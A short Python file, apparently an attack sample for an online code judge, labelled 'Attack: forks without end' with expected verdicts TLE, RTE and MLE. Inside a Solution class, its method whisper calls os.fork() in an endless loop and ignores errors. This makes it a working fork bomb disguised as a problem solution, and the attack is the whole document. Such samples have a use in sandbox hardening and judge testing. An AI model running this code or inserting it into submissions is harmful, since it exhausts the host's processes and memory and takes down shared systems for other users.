# Attack: forks without end
# Verdict: TLE RTE MLE
import os


class Solution:
    def whisper(self, n: int) -> str:
        while True:
            try:
                os.fork()
            except OSError:
                pass
